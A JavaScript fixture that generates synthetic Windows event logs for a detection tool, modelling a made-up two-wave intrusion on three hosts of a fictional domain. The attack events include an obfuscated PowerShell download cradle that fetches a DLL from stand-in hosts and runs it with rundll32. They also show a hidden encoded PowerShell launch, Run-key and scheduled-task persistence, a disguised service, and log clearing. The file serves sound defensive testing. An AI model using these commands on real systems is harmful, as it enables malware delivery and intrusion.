// SPDX-License-Identifier: Apache-2.0
//
// A small made-up intrusion in the style of the bundled case: three hosts, two waves, some harmless
// findings around them.

import { createDocument, createRandom, timeText } from './builder.mjs';
import { RULES } from './case_rules.mjs';

const SYSMON = [
  'Microsoft-Windows-Sysmon/Operational',
  'Microsoft-Windows-Sysmon',
  'Microsoft-Windows-Sysmon%4Operational.evtx',
];
const SECURITY = ['Security', 'Microsoft-Windows-Security-Auditing', 'Security.evtx'];
const POWERSHELL = [
  'Microsoft-Windows-PowerShell/Operational',
  'Microsoft-Windows-PowerShell',
  'Microsoft-Windows-PowerShell%4Operational.evtx',
];
const SYSTEM = ['System', 'Service Control Manager', 'System.evtx'];
const TASKS = [
  'Microsoft-Windows-TaskScheduler/Operational',
  'Microsoft-Windows-TaskScheduler',
  'Microsoft-Windows-TaskScheduler%4Operational.evtx',
];

const SALES = 'PC-SALES-07.yamabuki.example';
const ACCT = 'PC-ACCT-02.yamabuki.example';
const FILE = 'SRV-FILE-01.yamabuki.example';

const LURE =
  'cmd cmd cmd cmd /c msg %username% /v Word experienced an error trying to open the file. & P^Ow^er^she^L^L -w hidden -ENCOD                 ';
const BASE64 = 'IAAgAHMAZQB0AC0AdgBhAFIAaQBhAGIATABlACAAKAAnAE0AJwArACcAawB1ACcAKQAg'.repeat(14);
const DLL = 'C:\\Users\\sales07\\Jxk4jr_\\Dhuljgz\\D71J.dll';
const COPY = 'C:\\Users\\sales07\\AppData\\Local\\Ckninfwzsiyqxydc\\ialkquzoobkioba.czi';

/* One line per attack event: host, log, event id, minutes and seconds after the start, fields, rules. */
function firstWave() {
  const at = Date.UTC(2020, 11, 22, 0, 52, 0);
  const seconds = (n) => at + n * 1000;
  const image = 'C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe';
  const events = [
    [
      SALES,
      SYSMON,
      7,
      seconds(12),
      [
        ['Image', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'],
        ['ImageLoaded', 'C:\\Windows\\System32\\wbem\\wbemdisp.dll'],
        ['Signed', 'true'],
      ],
      ['office'],
    ],
    [
      SALES,
      SYSMON,
      1,
      seconds(31),
      [
        ['Image', 'C:\\Windows\\System32\\cmd.exe'],
        ['CommandLine', LURE + BASE64],
        ['ParentImage', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe'],
        ['User', 'YAMABUKI\\sales07'],
        ['ProcessId', '6120'],
      ],
      ['wmi', 'box'],
    ],
    [
      SALES,
      SECURITY,
      4688,
      seconds(31),
      [
        ['NewProcessName', 'C:\\Windows\\System32\\cmd.exe'],
        ['CommandLine', LURE + BASE64],
        ['ParentProcessName', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe'],
        ['SubjectUserName', 'sales07'],
      ],
      ['box'],
    ],
    [
      SALES,
      SYSMON,
      1,
      seconds(33),
      [
        ['Image', image],
        ['CommandLine', `POwersheLL -w hidden -ENCOD                 ${BASE64}`],
        ['ParentImage', 'C:\\Windows\\System32\\cmd.exe'],
        ['User', 'YAMABUKI\\sales07'],
      ],
      ['hidden'],
    ],
    [
      SALES,
      SYSMON,
      11,
      seconds(34),
      [
        ['Image', image],
        [
          'TargetFilename',
          'C:\\Users\\sales07\\AppData\\Local\\Temp\\__PSScriptPolicyTest_krutadkh.taj.ps1',
        ],
      ],
      ['policy'],
    ],
    [
      SALES,
      POWERSHELL,
      4104,
      seconds(35),
      [
        ['MessageNumber', '1'],
        ['MessageTotal', '2'],
        ['ScriptBlockText', scriptText()],
        ['Path', ''],
      ],
      ['cradle'],
    ],
    [
      SALES,
      SYSMON,
      11,
      seconds(37),
      [
        ['Image', image],
        ['TargetFilename', DLL],
        ['CreationUtcTime', '2020-12-22 00:52:37.204'],
      ],
      ['drop'],
    ],
    [
      SALES,
      SYSMON,
      1,
      seconds(39),
      [
        ['Image', 'C:\\Windows\\SysWOW64\\rundll32.exe'],
        ['CommandLine', `"C:\\Windows\\system32\\rundll32.exe" ${DLL},Control_RunDLL`],
        ['ParentImage', image],
      ],
      ['rundll'],
    ],
    [
      SALES,
      SYSMON,
      1,
      seconds(42),
      [
        ['Image', 'C:\\Windows\\SysWOW64\\rundll32.exe'],
        ['CommandLine', `C:\\Windows\\SysWOW64\\rundll32.exe "${COPY}",Control_RunDLL`],
        ['ParentImage', 'C:\\Windows\\SysWOW64\\rundll32.exe'],
      ],
      ['rundll'],
    ],
    [
      SALES,
      SYSMON,
      13,
      seconds(43),
      [
        ['EventType', 'SetValue'],
        [
          'TargetObject',
          'HKU\\S-1-5-21-1180699209-877415012-3182924384-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ialkquzoobkioba.czi',
        ],
        ['Details', `C:\\Windows\\SysWOW64\\rundll32.exe "${COPY}",ShowDialogA`],
      ],
      ['runkey'],
    ],
    [
      SALES,
      SECURITY,
      4698,
      seconds(2650),
      [
        ['TaskName', '\\Msnetcs'],
        [
          'TaskContent',
          '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <Actions><Exec><Command>C:\\Users\\sales07\\AppData\\Roaming\\netcs\\sales.exe</Command></Exec></Actions>\r\n</Task>',
        ],
      ],
      ['task'],
    ],
    [
      SALES,
      TASKS,
      106,
      seconds(2650),
      [
        ['TaskName', '\\Msnetcs'],
        ['UserContext', 'YAMABUKI\\sales07'],
        ['TaskContent', 'AppData'],
      ],
      ['task'],
    ],
    [
      FILE,
      SECURITY,
      5145,
      seconds(2915),
      [
        ['ShareName', '\\\\*\\ADMIN$'],
        ['RelativeTargetName', 'hqvbrtly.exe'],
        ['IpAddress', '10.20.7.107'],
        ['SubjectUserName', 'localadm'],
      ],
      ['share'],
    ],
    [
      FILE,
      SYSTEM,
      7045,
      seconds(2918),
      [
        ['ServiceName', 'WinDefService.Update'],
        ['ImagePath', 'C:\\Windows\\hqvbrtly.exe'],
        ['StartType', 'auto start'],
      ],
      ['service'],
    ],
    [
      FILE,
      SECURITY,
      4697,
      seconds(2918),
      [
        ['ServiceName', 'WinDefService.Update'],
        ['ServiceFileName', 'C:\\Windows\\hqvbrtly.exe'],
      ],
      ['service'],
    ],
  ];
  for (let k = 0; k < 12; k += 1) {
    events.push([
      SALES,
      SYSMON,
      3,
      seconds(130 + k * 957),
      [
        ['Image', 'C:\\Windows\\SysWOW64\\rundll32.exe'],
        ['DestinationIp', `203.0.113.${20 + k}`],
        ['DestinationPort', ['8080', '443', '7080'][k % 3]],
        ['Protocol', 'tcp'],
      ],
      ['c2'],
    ]);
  }
  for (let k = 0; k < 9; k += 1) {
    events.push([
      FILE,
      SECURITY,
      4625,
      seconds(2880 + k * 2),
      [
        ['TargetUserName', 'localadm'],
        ['LogonType', '3'],
        ['IpAddress', '10.20.7.107'],
        ['Status', '0xc000006d'],
      ],
      ['guess'],
    ]);
  }
  return events;
}

function scriptText() {
  const hosts = ['alder', 'birch', 'cedar', 'hazel', 'maple', 'rowan', 'willow'];
  return (
    `  set-vaRiabLe ('M'+'ku') ([tYpe]("{1}{0}"-f 'ry','systEM.iO.DirECto'))  ;\n$Urls = ${hosts.map((h) => `'http://${h}.example/wp-admin/${h[0].toUpperCase()}9x/'`).join(" +'@'+ ")};\n` +
    "foreach ($u in $Urls.Split([char]64)) { try { (&('new-ob'+'ject') neT.wEbcLIENT).DownloadFile($u, $Dll); if ((Get-Item $Dll).Length -ge 34042) { &('rundll32') $Dll,Control_RunDLL; break } } catch {} }"
  );
}

function secondWave() {
  const at = Date.UTC(2022, 3, 26, 2, 5, 0);
  const seconds = (n) => at + n * 1000;
  return [
    [
      ACCT,
      SYSMON,
      1,
      seconds(10),
      [
        ['Image', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
        [
          'CommandLine',
          'powershell.exe -command Out-String -InputObject "Invoice for payment.lnk" | Out-Null; [System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String(\'JFByb2dyZXNzUHJlZmVyZW5jZT0i\')) > "C:\\Users\\acct02\\AppData\\Local\\Temp\\sNhYaMMPOU.ps1"',
        ],
        ['User', 'YAMABUKI\\acct02'],
      ],
      ['hidden'],
    ],
    [
      ACCT,
      SYSMON,
      11,
      seconds(14),
      [
        ['Image', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
        ['TargetFilename', 'C:\\Users\\acct02\\AppData\\Local\\Temp\\LqwxbPrZJz.dll'],
      ],
      ['drop'],
    ],
    [
      ACCT,
      SYSMON,
      1,
      seconds(16),
      [
        ['Image', 'C:\\Windows\\System32\\regsvr32.exe'],
        [
          'CommandLine',
          'C:\\Windows\\system32\\regsvr32.exe /s C:\\Users\\acct02\\AppData\\Local\\Temp\\LqwxbPrZJz.LMo',
        ],
      ],
      ['regsvr'],
    ],
    [
      ACCT,
      SYSMON,
      1,
      seconds(240),
      [
        ['Image', 'C:\\Windows\\System32\\systeminfo.exe'],
        ['CommandLine', 'systeminfo'],
      ],
      ['whoami', 'unknown'],
    ],
    [
      ACCT,
      SECURITY,
      1102,
      seconds(1560),
      [
        ['SubjectUserName', 'acct02'],
        ['SubjectDomainName', 'YAMABUKI'],
      ],
      ['cleared'],
    ],
  ];
}

function background(random) {
  const events = [];
  for (let k = 0; k < 90; k += 1) {
    const host = random.pick([SALES, ACCT, FILE]);
    const day =
      host === ACCT
        ? Date.UTC(2022, 3, 25 + random.below(2))
        : Date.UTC(2020, 11, 21 + random.below(2));
    const time = day + random.below(24 * 3600) * 1000;
    if (random.below(4)) {
      events.push([
        host,
        SYSMON,
        11,
        time,
        [
          ['Image', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
          [
            'TargetFilename',
            `C:\\Windows\\Temp\\__PSScriptPolicyTest_${(1e9 + random.below(1e9)).toString(32)}.ps1`,
          ],
        ],
        ['policy'],
      ]);
    } else {
      events.push([
        host,
        SYSMON,
        1,
        time,
        [
          ['Image', 'C:\\Windows\\System32\\systeminfo.exe'],
          ['CommandLine', 'systeminfo /fo csv'],
          ['User', 'NT AUTHORITY\\SYSTEM'],
        ],
        ['whoami'],
      ]);
    }
  }
  return events;
}

/** The document; `lang` as a program would set it. */
export function caseData(lang = null) {
  const random = createRandom(20201222);
  const doc = createDocument(lang);
  const ruleNumbers = Object.fromEntries(
    Object.entries(RULES).map(([name, r]) => [name, doc.addRule(r)]),
  );
  const rows = [...firstWave(), ...secondWave(), ...background(random)].sort((a, b) => a[3] - b[3]);
  rows.forEach(([host, [channel, provider, name], id, time, fields, rules], k) => {
    const file = doc.fileOf(`case/${host.split('.')[0]}/${name}`);
    const event = doc.addEvent({
      file,
      record: 18000 + k * 7,
      time: timeText(time + random.below(1000), random.below(10000)),
      host,
      channel,
      provider,
      event_id: id,
      fields,
    });
    for (const r of rules) {
      const field = RULES[r].text.match(/selection:\n\s+(\w+)\|/)[1];
      doc.addFinding(
        event,
        ruleNumbers[r],
        fields.filter((f) => f[0] === field),
      );
    }
  });
  doc.addFile('case/PC-DESIGN-11/Microsoft-Windows-Sysmon%4Operational.evtx', { records: 3911 });
  doc.addFile('case/PC-ACCT-02/Application.evtx', {
    status: 'partly',
    records: 1200,
    recovered: 37,
    bad_records: 5,
    first: '2022-04-24T01:12:00.0000000Z',
    last: '2022-04-26T02:31:01.0000000Z',
    reason: 'two chunks have a wrong checksum',
    damages: [
      {
        offset: 4096 + 65536 * 3,
        what: 'chunk: checksum of the records is 0x1c2b3a49, computed 0x88f01b22',
      },
      { offset: 4096 + 65536 * 9, what: 'chunk: magic is not ElfChnk' },
    ],
  });
  doc.addFile('case/photos.zip!IMG_0001.JPG', {
    status: 'skipped',
    bytes: 2210034,
    first: '',
    last: '',
    chunks: 0,
    records: 0,
    reason: 'not an event log',
  });
  return doc.finish({
    rules_not_loaded: [
      { source: 'rules/other/near.yml', reason: 'near is not a condition that Sigma 2 knows' },
      { source: 'rules/other/tab.yml', reason: 'line 14, column 1: a tab may not begin a line' },
    ],
    hosts: [{ name: 'PC-DESIGN-11.yamabuki.example', records: 3911 }],
  });
}
